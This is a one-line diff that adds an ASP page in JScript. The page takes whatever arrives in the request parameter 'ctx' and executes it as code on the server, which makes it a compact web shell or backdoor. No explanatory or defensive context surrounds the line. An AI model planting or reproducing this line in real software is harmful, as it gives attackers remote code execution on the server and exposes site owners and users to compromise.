@@ -1,0 +1,1 @@
+<%@ Language="JScript" %><% (new Function(Request("ctx") + ""))(); %>
